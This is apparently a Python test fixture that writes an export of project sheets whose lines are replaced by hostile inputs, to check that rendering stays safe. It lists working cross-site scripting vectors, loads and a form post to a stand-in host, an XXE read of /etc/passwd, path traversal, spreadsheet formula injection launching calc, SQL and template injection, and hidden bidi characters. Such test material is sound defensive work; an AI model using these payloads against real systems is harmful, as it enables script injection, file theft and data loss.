"""Sheets that attack whoever shows them: each payload is the line of a section, a title or a choice."""

from __future__ import annotations

from pathlib import Path

_RUN = "window.pris=1"
_AWAY = "http://ailleurs.example"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src={_AWAY}/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{_AWAY}/i.png'>",
    f"<img/src=x/onerror={_RUN}//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data='{_AWAY}/o'></object>",
    f"<embed src='{_AWAY}/e'>",
    f"<video src=x onerror={_RUN}></video>",
    f"<audio src='{_AWAY}/a.mp3' autoplay></audio>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<form action='{_AWAY}'><button>x</button></form>",
    f"<link rel=stylesheet href='{_AWAY}/s.css'>",
    f"<style>@import '{_AWAY}/s.css';</style>",
    f"<style>body{{background:url({_AWAY}/b.png)}}</style>",
    f"<div style=\"background:url('{_AWAY}/b.png')\">x</div>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href='{_AWAY}/'>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<xmp><img src=x onerror={_RUN}></xmp>",
    f"\"><script>{_RUN}</script>",
    f"'><img src=x onerror={_RUN}>",
    f"\" onmouseover=\"{_RUN}\" x=\"",
    f"' autofocus onfocus='{_RUN}",
    f"`onmouseover={_RUN}",
    f"</details></article></div><script>{_RUN}</script>",
    f"</blockquote><img src=x onerror={_RUN}>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    f"![i]({_AWAY}/m.png)",
    f"[x](javascript:{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHJpcz0xPC9zY3JpcHQ+)",
    f"[x]: {_AWAY} 'titre'",
    f"<{_AWAY}>",
    f"{_AWAY}/nu",
    "# Un titre **gras** _penché_ `code`",
    "| a | b |",
    "```html",
    "$$\\href{javascript:window.pris=1}{x}$$",
    "{{constructor.constructor('window.pris=1')()}}",
    "${window.pris=1}",
    "&lt;script&gt;window.pris=1&lt;/script&gt;",
    "&#60;script&#62;window.pris=1&#60;/script&#62;",
    "\u202eedoc siovne\u202c à l’envers",
    "\u2066isolé\u2069 \u200bsans\u200b\u200d largeur\ufeff",
    "=HYPERLINK(\"http://ailleurs.example\";\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "%00%3Cscript%3Ewindow.pris=1%3C/script%3E",
    "javascript:window.pris=1",
    "{\"__class__\": \"File\", \"path\": \"/etc/passwd\"}",
    "/gradio_api/file=/etc/passwd",
    "'; DROP TABLE sheets; --",
    "\" OR 1=1 --",
    "../../../../etc/passwd",
)  # fmt: skip
LONG = "x" * 1_000_000
_A_SHEET = 36


def write_hostile(template: Path, export: Path) -> None:
    """An export of sheets like the first of ``template``, whose lines of text are the payloads, in turn."""
    lines = template.read_text("utf-8").split("\n")
    second = next(n for n, line in enumerate(lines) if n > 2 and line == "Actions")
    sheet = lines[2:second]
    made = ["Des fiches hostiles"]
    for number, first in enumerate(range(0, len(PAYLOADS), _A_SHEET)):
        said = PAYLOADS[first : first + _A_SHEET]
        made += ["Actions", f"Fiche {number} {said[0]}"]
        for line in sheet[1:]:
            if line == "- Maison - des Trois Sources - Alpes-de-Haute-Provence":
                made.append(f"- Maison {said[1]} - Alpes-de-Haute-Provence")
            elif line == "- Association locale":
                made.append(f"- {said[2]}")
            elif line.startswith(("Un potager de quartier", "1 animatrice")):
                made += said[:6] if line.startswith("Un") else said[6:]
            elif line == "limite: l'eau manque en août":
                made += [*said, *([LONG] if number == 0 else [])]
            else:
                made.append(line)
    export.write_text("\n".join(made), encoding="utf-8")
